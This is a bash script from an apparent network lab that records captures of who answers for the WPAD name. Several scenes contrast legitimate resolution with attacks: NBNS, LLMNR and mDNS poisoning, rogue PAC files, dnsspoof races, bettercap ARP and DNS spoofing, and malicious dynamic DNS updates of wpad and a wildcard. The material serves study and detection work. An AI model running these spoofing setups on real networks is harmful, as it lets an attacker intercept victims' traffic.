#!/usr/bin/env bash
# Records captures/names: who answers for wpad. Usage: names.sh [SCENE...]; without arguments all scenes.
# Packages: lab.sh's, and samba samba-common-bin avahi-daemon avahi-utils dnsmasq-base bind9-dnsutils dsniff nginx-light curl python3 bettercap.
. "$(dirname "$0")/lab.sh"

# nmbd calls itself WPAD: it registers the name by broadcast, answers the lookup and serves a PAC that makes it everybody's proxy.
scene_nbns_wpad_answer() {
  lab_host fs 3c:52:82:11:00:05 10.1.0.5/24
  lab_host rogue 00:0c:29:6e:00:66 10.1.0.66/24
  lab_host pc 3c:52:82:11:00:21 10.1.0.21/24
  pac "$lab_tmp/www/wpad.dat" 10.1.0.66:8080
  web rogue "$lab_tmp/www"
  netbios fs FILESRV
  record_start
  netbios rogue WPAD
  pause 8
  try pc nmblookup -s /dev/null -B 10.1.0.255 FILESRV
  try pc nmblookup -s /dev/null -B 10.1.0.255 WPAD
  try pc curl -s -m 3 -A 'WinHttp-Autoproxy-Service/5.1' -H 'Host: wpad' http://10.1.0.66/wpad.dat
}

# Two file servers under their own names, a client that looks for them and for a WPAD nobody has.
scene_nbns_own_names() {
  lab_host fs 3c:52:82:11:00:05 10.1.0.5/24
  lab_host nas 00:11:32:aa:00:06 10.1.0.6/24
  lab_host pc 3c:52:82:11:00:21 10.1.0.21/24
  record_start
  netbios fs FILESRV
  netbios nas NAS
  pause 8
  for name in FILESRV NAS OFFICE WPAD; do try pc nmblookup -s /dev/null -B 10.1.0.255 $name; done
  try pc nmblookup -s /dev/null -A 10.1.0.5
}

# A WINS server answers for the names of others, and says no to WPAD.
scene_nbns_wins_server() {
  lab_host wins 3c:52:82:11:00:02 10.1.0.2/24
  lab_host a 3c:52:82:11:00:31 10.1.0.31/24
  lab_host b 3c:52:82:11:00:32 10.1.0.32/24
  lab_host c 3c:52:82:11:00:33 10.1.0.33/24
  lab_host pc 3c:52:82:11:00:21 10.1.0.21/24
  record_start
  netbios wins WINS 'wins support = yes'
  pause 2
  for h in a b c; do netbios $h "DESK-${h^^}" 'wins server = 10.1.0.2'; done
  pause 8
  try pc env BROADCAST=10.1.0.2 NBNS_FLAGS=0x0100 python3 "$make_dir/ask.py" nbns DESK-A DESK-B DESK-C WPAD
}

# Samba owns its name and answers for it; a poisoner answers for that one and all others, WPAD among them; nmblookup is the victim.
scene_nbns_poisoner() {
  lab_host fs 3c:52:82:11:00:05 10.1.0.5/24
  lab_host rogue 00:0c:29:6e:00:66 10.1.0.66/24
  lab_host pc 3c:52:82:11:00:21 10.1.0.21/24
  record_start
  netbios fs FILESRV
  pause 8
  daemon rogue python3 "$make_dir/poisoner.py" 10.1.0.66
  pause 1
  for name in FILESRV WPAD PRINTSRV; do try pc timeout 4 nmblookup -s /dev/null -B 10.1.0.255 $name; done
}

scene_llmnr_wpad_answer() {
  lab_host rogue 00:0c:29:6e:00:66 10.1.0.66/24
  lab_host pc 3c:52:82:11:00:21 10.1.0.21/24
  lab_host lap 3c:52:82:11:00:22 10.1.0.22/24
  pac "$lab_tmp/www/wpad.dat" 10.1.0.66:3128
  web rogue "$lab_tmp/www"
  daemon rogue python3 "$make_dir/poisoner.py" 10.1.0.66 --only 'wpad'
  pause 1
  record_start
  try pc python3 "$make_dir/ask.py" llmnr printserver wpad
  try pc curl -s -m 3 -A 'WinHttp-Autoproxy-Service/5.1' -H 'Host: wpad' http://10.1.0.66/wpad.dat
  try lap python3 "$make_dir/ask.py" llmnr6 wpad
}

# Hosts answer for their own names; nobody answers wpad.
scene_llmnr_own_names() {
  lab_host desk 3c:52:82:11:00:23 10.1.0.23/24
  lab_host nas 00:11:32:aa:00:06 10.1.0.6/24
  lab_host pc 3c:52:82:11:00:21 10.1.0.21/24
  daemon desk python3 "$make_dir/poisoner.py" 10.1.0.23 --honest desk
  daemon nas python3 "$make_dir/poisoner.py" 10.1.0.6 --honest nas
  pause 1
  record_start
  try pc python3 "$make_dir/ask.py" llmnr desk wpad nas desk isatap
  try pc python3 "$make_dir/ask.py" nbns DESK NAS WPAD
}

scene_name_poisoner() {
  lab_host fs 3c:52:82:11:00:05 10.1.0.5/24
  lab_host rogue 00:0c:29:6e:00:66 10.1.0.66/24
  lab_host pc 3c:52:82:11:00:21 10.1.0.21/24
  lab_host lap 3c:52:82:11:00:22 10.1.0.22/24
  daemon fs python3 "$make_dir/poisoner.py" 10.1.0.5 --honest fs
  daemon rogue python3 "$make_dir/poisoner.py" 10.1.0.66
  pause 1
  record_start
  try pc python3 "$make_dir/ask.py" llmnr filesrv02 printsrv fs intranet-old
  try lap python3 "$make_dir/ask.py" nbns SQLTEST BACKUP01
  try lap python3 "$make_dir/ask.py" mdns macmini.local
}

# A real Avahi publishes wpad.local for its host and answers for it.
scene_mdns_wpad_answer() {
  lab_host rogue 00:0c:29:6e:00:66 10.1.0.66/24
  lab_host pc 3c:52:82:11:00:21 10.1.0.21/24
  pac "$lab_tmp/www/wpad.dat" 10.1.0.66:8080
  web rogue "$lab_tmp/www"
  record_start
  mdns rogue studio
  mdns_publish rogue wpad.local 10.1.0.66
  pause 5
  try pc python3 "$make_dir/ask.py" mdns wpad.local
  try pc curl -s -m 3 -A 'CFNetwork/1410 Darwin/22.6.0' -H 'Host: wpad.local' http://10.1.0.66/wpad.dat
}

# Three Avahi hosts announce their own names and a service, and ask for each other.
scene_mdns_own_names() {
  lab_host a 3c:52:82:11:00:31 10.1.0.31/24
  lab_host b 3c:52:82:11:00:32 10.1.0.32/24
  lab_host pc 3c:52:82:11:00:21 10.1.0.21/24
  record_start
  mdns a printer
  mdns b scanner
  pause 3
  try pc python3 "$make_dir/ask.py" mdns printer.local scanner.local wpad.local
}

# A workstation (it took its address by DHCP) runs a resolver of its own that answers wpad with itself; a poisoned client asks it.
scene_dns_wpad_answer() {
  lab_host gw 3c:52:82:11:00:01 10.1.0.1/24
  lab_host rogue 00:0c:29:6e:00:66
  lab_host pc 3c:52:82:11:00:21
  dns_dhcp gw --dhcp-range=10.1.0.100,10.1.0.120,1h --domain=corp.example --address=/intranet.corp.example/10.1.0.1 --address=/pc.corp.example/
  record_start
  lease rogue; lease pc
  local ip; ip=$(on rogue ip -4 -br addr show eth0 | awk '{print $3}' | cut -d/ -f1)
  pac "$lab_tmp/www/wpad.dat" "$ip:3128"
  web rogue "$lab_tmp/www"
  dns_dhcp rogue --address=/wpad.corp.example/$ip
  pause 1
  try pc dig +tries=1 +time=2 @10.1.0.1 intranet.corp.example
  try pc dig +tries=1 +time=2 @10.1.0.1 wpad.corp.example
  try pc dig +tries=1 +time=2 @$ip wpad.corp.example
  try pc curl -s -m 3 -H 'Host: wpad.corp.example' http://$ip/wpad.dat
}

# The company's resolver names the company's WPAD server, which hands out the company's PAC; and says no elsewhere.
scene_dns_corporate_wpad() {
  lab_host gw 3c:52:82:11:00:01 10.1.0.1/24
  lab_host proxy 3c:52:82:11:00:08 10.1.0.8/24
  lab_host pc 3c:52:82:11:00:21
  lab_host lap 3c:52:82:11:00:22
  dns_dhcp gw --dhcp-range=10.1.0.100,10.1.0.120,1h --domain=corp.example --address=/wpad.corp.example/10.1.0.8 --address=/intranet.corp.example/10.1.0.1
  pac "$lab_tmp/www/wpad.dat" proxy.corp.example:8080
  web proxy "$lab_tmp/www"
  pause 1
  record_start
  for h in pc lap; do
    lease $h
    try $h dig +tries=1 +time=2 @10.1.0.1 wpad.corp.example
    try $h dig +tries=1 +time=2 @10.1.0.1 intranet.corp.example
    try $h curl -s -m 3 -H 'Host: wpad.corp.example' http://10.1.0.8/wpad.dat
  done
}

# A filtering resolver sinks wpad to 0.0.0.0, :: and loopback; another says NXDOMAIN.
scene_dns_wpad_sinkholed() {
  lab_host gw 3c:52:82:11:00:01 10.1.0.1/24
  lab_host pc 3c:52:82:11:00:21 10.1.0.21/24
  dns_dhcp gw --address=/wpad.corp.example/0.0.0.0 --address=/wpad.corp.example/:: --address=/wpad.example/127.0.0.1 --address=/wpad.home.example/
  pause 1
  record_start
  for name in wpad.corp.example wpad.example wpad.home.example; do try pc dig +tries=1 +time=2 @10.1.0.1 $name; done
  try pc dig +tries=1 +time=2 @10.1.0.1 AAAA wpad.corp.example
}

# On a shared medium dnsspoof answers before the resolver, which takes its time (dnsspoof itself waits up to half a second for its capture buffer
# and knows no EDNS).
scene_dns_answer_race() {
  lab_hub
  lab_host gw 3c:52:82:11:00:01 10.1.0.1/24
  lab_host rogue 00:0c:29:6e:00:66 10.1.0.66/24
  lab_host pc 3c:52:82:11:00:21 10.1.0.21/24
  dns_dhcp gw --port=5300 --address=/#/192.0.2.80
  daemon gw python3 "$make_dir/slow_forwarder.py" 10.1.0.1 5300 0.8
  printf '10.1.0.66\twpad.corp.example\n10.1.0.66\tdownload.windowsupdate.com\n10.1.0.66\twww.bank.example\n' >"$lab_tmp/spoof"
  daemon rogue dnsspoof -i eth0 -f "$lab_tmp/spoof" udp dst port 53
  pause 1
  record_start
  for name in www.example.org wpad.corp.example download.windowsupdate.com www.bank.example; do try pc dig +noedns +tries=1 +time=2 @10.1.0.1 $name; pause 1; done
}

# Round robin: the same set in another order for every question, and one question retransmitted.
scene_dns_round_robin() {
  lab_host gw 3c:52:82:11:00:01 10.1.0.1/24
  lab_host pc 3c:52:82:11:00:21 10.1.0.21/24
  printf '192.0.2.1 www.corp.example\n192.0.2.2 www.corp.example\n192.0.2.3 www.corp.example\n' >"$lab_tmp/hosts"
  dns_dhcp gw --addn-hosts="$lab_tmp/hosts"
  pause 1
  record_start
  for i in 1 2 3 4 5; do try pc dig +tries=1 +time=2 @10.1.0.1 www.corp.example; done
  try pc python3 "$make_dir/ask_twice.py" 10.1.0.1 www.corp.example
}

# A client registers wpad and a wildcard in the zone by dynamic update.
scene_wpad_registered() {
  lab_host dc 3c:52:82:11:00:02 10.1.0.2/24
  lab_host rogue 00:0c:29:6e:00:66 10.1.0.66/24
  dns_dhcp dc --auth-zone=corp.example --auth-server=dc.corp.example,eth0
  pause 1
  record_start
  printf 'server 10.1.0.2\nzone corp.example\nupdate add wpad.corp.example 3600 A 10.1.0.66\nsend\n' | on rogue timeout 5 nsupdate -t 2 -r 0 >/dev/null 2>&1 || true
  printf 'server 10.1.0.2\nzone corp.example\nupdate add *.corp.example 3600 A 10.1.0.66\nsend\n' | on rogue timeout 5 nsupdate -t 2 -r 0 >/dev/null 2>&1 || true
}

# A workstation registers its own name by dynamic update, as every Windows host does.
scene_dns_own_update() {
  lab_host dc 3c:52:82:11:00:02 10.1.0.2/24
  lab_host pc 3c:52:82:11:00:21 10.1.0.21/24
  dns_dhcp dc --auth-zone=corp.example --auth-server=dc.corp.example,eth0
  pause 1
  record_start
  printf 'server 10.1.0.2\nzone corp.example\nupdate delete pc.corp.example A\nupdate add pc.corp.example 1200 A 10.1.0.21\nsend\n' | on pc timeout 5 nsupdate -t 2 -r 0 >/dev/null 2>&1 || true
}

# wpad lookups that leave the house: a public resolver (a host of the lab that has such an address) and a name above the own domain.
scene_wpad_name_leak() {
  lab_host gw 3c:52:82:11:00:01 10.1.0.1/24 9.9.9.9/32
  lab_host pc 3c:52:82:11:00:21
  dns_dhcp gw --dhcp-range=10.1.0.100,10.1.0.120,1h --domain=sales.corp.example --dhcp-option=3,10.1.0.1
  pause 1
  record_start
  lease pc
  for name in wpad.sales.corp.example wpad.corp.example wpad.example; do try pc dig +tries=1 +time=1 @10.1.0.1 $name; done
  try pc dig +tries=1 +time=1 @9.9.9.9 wpad.sales.corp.example
}

# bettercap stands in the way by ARP and answers for two names before the resolver, whose answer comes all the same.
scene_bettercap_dns() {
  lab_host gw 3c:52:82:11:00:01 10.1.0.1/24
  lab_host rogue 00:0c:29:6e:00:66 10.1.0.66/24
  lab_host pc 3c:52:82:11:00:21 10.1.0.21/24
  dns_dhcp gw --port=5300 --address=/#/192.0.2.80
  daemon gw python3 "$make_dir/slow_forwarder.py" 10.1.0.1 5300 0.5
  pause 1
  record_start
  try pc dig +tries=1 +time=2 @10.1.0.1 www.example.org
  for address in 1 21; do try rogue ping -c1 -W1 10.1.0.$address; done
  daemon rogue bettercap -iface eth0 -gateway-override 10.1.0.1 -no-colors -eval 'set arp.spoof.targets 10.1.0.21; set arp.spoof.fullduplex true;
    set dns.spoof.domains wpad.corp.example,download.windowsupdate.com; set dns.spoof.address 10.1.0.66; set dns.spoof.all true; arp.spoof on; dns.spoof on'
  pause 5
  for name in www.example.org wpad.corp.example download.windowsupdate.com; do try pc dig +noedns +tries=1 +time=2 @10.1.0.1 $name; pause 1; done
}

run_scenes names "$@"
